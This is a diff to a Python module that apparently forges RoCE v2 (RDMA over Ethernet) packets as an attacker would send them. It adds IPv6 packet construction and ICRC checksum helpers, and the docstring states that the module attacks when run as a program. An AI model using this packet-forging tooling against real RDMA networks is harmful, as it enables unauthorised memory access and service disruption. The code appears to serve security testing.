@@ -1,4 +1,4 @@
-"""RoCE v2 packets by hand, IPv4: what an attacker sends. Needs CAP_NET_RAW in its namespace.
+"""RoCE v2 packets by hand, mostly IPv4: what an attacker sends. Needs CAP_NET_RAW in its namespace.
 
 Run as a program it attacks: `roce.py JSON`, with what attack() takes.
 """
@@ -38,6 +38,28 @@ def packet(source, destination, operation, qpn, psn, extension=b"", payload=b"",
     check = zlib.crc32(b"\xff" * 8 + masked) ^ (0 if good else 0x10)
     return (header + struct.pack(">HHHH", sport, PORT, length - 20, 0) + body
             + struct.pack("<I", check))
+
+
+def packet6(source, destination, payload, sport=0xC123):
+    """An IPv6 packet to port 4791, with a right checksum."""
+    length = 8 + len(payload)
+    addresses = b"".join(socket.inet_pton(socket.AF_INET6, one) for one in (source, destination))
+    datagram_ = struct.pack(">HHHH", sport, PORT, length, 0) + payload
+    summed = addresses + struct.pack(">II", length, 17) + datagram_ + bytes(length % 2)
+    total = sum(word for word, in struct.iter_unpack(">H", summed))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return (struct.pack(">IHBB", 0x60000000, length, 17, 64) + addresses + datagram_[:6]
+            + struct.pack(">H", ~total & 0xFFFF or 0xFFFF) + payload)
+
+
+def check6(source, destination, body, sport=0xC123):
+    """The ICRC of a payload that goes by IPv6."""
+    length = 8 + len(body) + 4
+    addresses = b"".join(socket.inet_pton(socket.AF_INET6, one) for one in (source, destination))
+    masked = (struct.pack(">IHBB", 0x6FFFFFFF, length, 17, 0xFF) + addresses
+              + struct.pack(">HHHH", sport, PORT, length, 0xFFFF) + body[:4] + b"\xff" + body[5:])
+    return struct.pack("<I", zlib.crc32(b"\xff" * 8 + masked))
 
 
 def reth(address, key, length):
